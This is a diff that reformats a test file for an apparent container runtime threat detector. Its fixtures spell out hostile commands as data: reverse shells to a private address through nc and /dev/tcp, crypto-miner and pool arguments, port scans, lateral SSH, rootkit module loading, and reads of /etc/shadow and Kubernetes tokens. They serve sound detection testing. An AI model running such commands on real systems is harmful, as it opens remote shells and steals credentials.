@@ -25,17 +25,29 @@ const rules = (fs: { rule: string }[]) => fs.map((f) => RULES[f.rule as keyof ty
 // Exec fixtures (pids that do not exist: only names and arguments count).
 const EXEC_CASES: [string, string[], string[], boolean?][] = [
   ['miner by name', ['/usr/local/bin/xmrig', '--threads', '2'], ['R1007']],
-  ['miner by pool arguments', ['/opt/app/worker', '-o', 'stratum+tcp://pool.example:3333', '-u', 'wallet'], ['R1007']],
+  [
+    'miner by pool arguments',
+    ['/opt/app/worker', '-o', 'stratum+tcp://pool.example:3333', '-u', 'wallet'],
+    ['R1007'],
+  ],
   ['port scanner', ['/usr/bin/nmap', '-sS', '10.0.0.0/24'], ['CF102']],
   ['netcat scan', ['/bin/nc', '-zv', '10.0.0.5', '1-1024'], ['CF102']],
   ['lateral movement', ['/usr/bin/sshpass', '-p', 'x', 'ssh', 'root@10.0.0.9'], ['CF104']],
   ['nc -e reverse shell', ['/bin/nc', '10.0.0.1', '9001', '-e', '/bin/sh'], ['CF101']],
   ['bash /dev/tcp reverse shell', ['/bin/bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/9001 0>&1'], ['CF101']],
-  ['fifo pipeline reverse shell', ['/bin/sh', '-c', '/bin/sh -i < /tmp/f 2>&1 | /bin/nc 10.0.0.1 9001 > /tmp/f'], ['CF101']],
+  [
+    'fifo pipeline reverse shell',
+    ['/bin/sh', '-c', '/bin/sh -i < /tmp/f 2>&1 | /bin/nc 10.0.0.1 9001 > /tmp/f'],
+    ['CF101'],
+  ],
   ['package manager', ['/usr/bin/apt-get', 'install', '-y', 'curl'], ['CF105']],
   ['kubectl', ['/usr/local/bin/kubectl', 'get', 'secrets'], ['R0007']],
   ['module loader', ['/sbin/insmod', 'rootkit.ko'], ['R1002']],
-  ['LD_PRELOAD on the command line', ['/usr/bin/env', 'LD_PRELOAD=/tmp/hook.so', '/bin/ls'], ['R1000', 'R1011'].slice(1)],
+  [
+    'LD_PRELOAD on the command line',
+    ['/usr/bin/env', 'LD_PRELOAD=/tmp/hook.so', '/bin/ls'],
+    ['R1000', 'R1011'].slice(1),
+  ],
   ['exec from /tmp', ['/tmp/payload'], ['R1000']],
   ['exec from /dev/shm', ['/dev/shm/.x'], ['R1000']],
   ['fileless via /proc/self/fd', ['/proc/self/fd/3'], ['R1005']],
@@ -64,19 +76,33 @@ test('drift: a binary written after the container started, then executed (a real
   const startedBefore: ContainerInfo = { startMs: statSync(exe).ctimeMs - 1000 };
   const startedAfter: ContainerInfo = { startMs: statSync(exe).ctimeMs + 1000 };
   const e = execEvent(T, [exe, '30'], { pid: child.pid });
-  assert.deepEqual(rules(detectExec(e, startedBefore)), ['R1000', 'R1001'], 'written after start, and in /tmp');
-  assert.deepEqual(rules(detectExec(e, startedAfter)), ['R1000'], 'older than the container: only the /tmp rule');
+  assert.deepEqual(
+    rules(detectExec(e, startedBefore)),
+    ['R1000', 'R1001'],
+    'written after start, and in /tmp'
+  );
+  assert.deepEqual(
+    rules(detectExec(e, startedAfter)),
+    ['R1000'],
+    'older than the container: only the /tmp rule'
+  );
   // The image's own binaries are older than the container: no drift.
   const ls = spawn('/bin/sleep', ['30'], { stdio: 'ignore' });
   children.push(ls);
   await new Promise((r) => ls.once('spawn', r));
-  assert.deepEqual(rules(detectExec(execEvent(T, ['/bin/sleep', '30'], { pid: ls.pid }), oldContainer())), []);
+  assert.deepEqual(
+    rules(detectExec(execEvent(T, ['/bin/sleep', '30'], { pid: ls.pid }), oldContainer())),
+    []
+  );
 });
 
 test('fileless: exec of a memfd (a real one, via python)', async (t) => {
   const py = spawn(
     'python3',
-    ['-c', "import os;fd=os.memfd_create('x');os.write(fd,open('/bin/sleep','rb').read());os.execv('/proc/self/fd/%d'%fd,['sleep','30'])"],
+    [
+      '-c',
+      "import os;fd=os.memfd_create('x');os.write(fd,open('/bin/sleep','rb').read());os.execv('/proc/self/fd/%d'%fd,['sleep','30'])",
+    ],
     { stdio: 'ignore' }
   );
   children.push(py);
@@ -88,7 +114,8 @@ test('fileless: exec of a memfd (a real one, via python)', async (t) => {
   // Wait until the exec happened (the exe link turns into the memfd).
   const { readlinkSync } = await import('node:fs');
   const deadline = Date.now() + 5000;
-  while (Date.now() < deadline && !readlinkSafe(readlinkSync, py.pid!).startsWith('/memfd:')) await new Promise((r) => setTimeout(r, 20));
+  while (Date.now() < deadline && !readlinkSafe(readlinkSync, py.pid!).startsWith('/memfd:'))
+    await new Promise((r) => setTimeout(r, 20));
   // The eBPF source reports the exec'd filename: /proc/self/fd/N; /proc/<pid>/exe says memfd either way.
   const e = execEvent(T, ['sleep', '30'], { pid: py.pid, filename: '/usr/bin/python3-exec-target' });
   assert.deepEqual(rules(detectExec(e, oldContainer())), ['R1005']);
@@ -139,7 +166,11 @@ test('LD_PRELOAD in the environment of a container process (real process)', asyn
 
 const SYSCALL_CASES: [string, Parameters<typeof syscallEvent>[2] & { sc: number }, string[] | null][] = [
   ['read /etc/shadow', { sc: 1, path: '/etc/shadow' }, ['R0010']],
-  ['service account token', { sc: 1, path: '/var/run/secrets/kubernetes.io/serviceaccount/token' }, ['R0006']],
+  [
+    'service account token',
+    { sc: 1, path: '/var/run/secrets/kubernetes.io/serviceaccount/token' },
+    ['R0006'],
+  ],
   ["another process's environ", { sc: 1, path: '/proc/1/environ', pid: 77 }, ['R0008']],
   ['own environ is not even an event', { sc: 1, path: '/proc/self/environ' }, null],
   ['ssh client config is not an event', { sc: 1, path: '/etc/ssh/ssh_config' }, null],
@@ -166,15 +197,30 @@ for (const [name, o, want] of SYSCALL_CASES) {
 test('syscall events decode their argument', () => {
   assert.equal(syscallEvent(T, 4, { a: 0x10000000 | 0x40000000 })?.syscallArg, 'CLONE_NEWUSER|CLONE_NEWNET');
   assert.equal(syscallEvent(T, 3, { a: 16, tp: 9 })?.syscallArg, 'PTRACE_ATTACH');
-  assert.equal(syscallEvent(T, 1, { path: '/etc/shadow', a: 0o1101 })?.syscallArg, 'O_WRONLY|O_CREAT|O_TRUNC');
+  assert.equal(
+    syscallEvent(T, 1, { path: '/etc/shadow', a: 0o1101 })?.syscallArg,
+    'O_WRONLY|O_CREAT|O_TRUNC'
+  );
   // Host processes: unshare and module loads are normal there.
   assert.deepEqual(detectSyscall(syscallEvent(T, 4, { a: 0x10000000 })!, false), []);
 });
 
 test('connect: mining pool ports and domains, remote-admin ports from a container', () => {
   assert.deepEqual(rules(detectConnect(tcpEvent(T, 'connect', '198.51.100.1', 3333), true)), ['R1009']);
-  assert.deepEqual(rules(detectConnect({ ...tcpEvent(T, 'connect', '198.51.100.1', 443), destDomain: 'xmr.supportxmr.com' }, true)), ['R1008']);
+  assert.deepEqual(
+    rules(
+      detectConnect(
+        { ...tcpEvent(T, 'connect', '198.51.100.1', 443), destDomain: 'xmr.supportxmr.com' },
+        true
+      )
+    ),
+    ['R1008']
+  );
   assert.deepEqual(rules(detectConnect(tcpEvent(T, 'connect', '10.0.0.9', 22), true)), ['R1003']);
   assert.deepEqual(rules(detectConnect(tcpEvent(T, 'connect', '10.0.0.9', 443), true)), []);
-  assert.deepEqual(rules(detectConnect(tcpEvent(T, 'connect', '10.0.0.9', 22), false)), [], 'ssh from a host is normal');
+  assert.deepEqual(
+    rules(detectConnect(tcpEvent(T, 'connect', '10.0.0.9', 22), false)),
+    [],
+    'ssh from a host is normal'
+  );
 });
